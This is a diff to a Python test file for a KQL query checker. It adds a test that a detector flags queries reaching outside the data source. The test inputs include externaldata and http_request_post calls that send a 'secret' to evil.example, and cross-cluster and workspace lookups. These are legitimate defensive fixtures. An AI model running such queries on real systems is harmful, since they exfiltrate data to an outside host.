@@ -2,7 +2,7 @@
 
 import pytest
 
-from orchestrator.core.selfmade import read_query
+from orchestrator.core.selfmade import reaches_out, read_query
 
 MADE_UP = [
     "print verdict = 'all is well'",
@@ -27,6 +27,7 @@ MADE_UP = [
     "T | extend v = ```down```",
     "T | where Name == 'a' | extend v = Name + ' is down'",
     "T \x00",
+    "T | extend n = 400000 + 12000",
 ]
 HONEST = [
     "T | where Name == 'checkout' and Message !contains 'ok' | summarize n = count() by bin(TimeGenerated, 5m)",
@@ -76,3 +77,20 @@ def test_a_definition_that_cannot_be_shown_supports_nothing() -> None:
     """Neither a long one nor one that goes round in circles."""
     assert read_query("T | extend n = " + " + ".join(["Ms"] * 100)).problem
     assert read_query("T | extend a = b, b = a").problem
+
+
+@pytest.mark.parametrize(
+    ("kql", "name"),
+    [
+        ("externaldata(a: string)['https://evil.example/?q=secret']", "externaldata"),
+        ("T | union adx('https://evil.example/db').T", "adx"),
+        ("cluster('evil').database('x').T", "cluster"),
+        ("union T, workspace('other').T", "workspace"),
+        ("evaluate http_request_post('https://evil.example', dynamic({}), 'x')", "http_request_post"),
+        ("T | where app == 'externaldata(' // cluster('x')", None),
+        ("AppRequests | where resource has 'workspace' and database == 'x'", None),
+    ],
+)
+def test_a_query_that_reaches_outside_is_seen(kql: str, name: str | None) -> None:
+    """Whatever it would carry out or bring in; columns and texts of those names are no reach."""
+    assert reaches_out(kql) == name
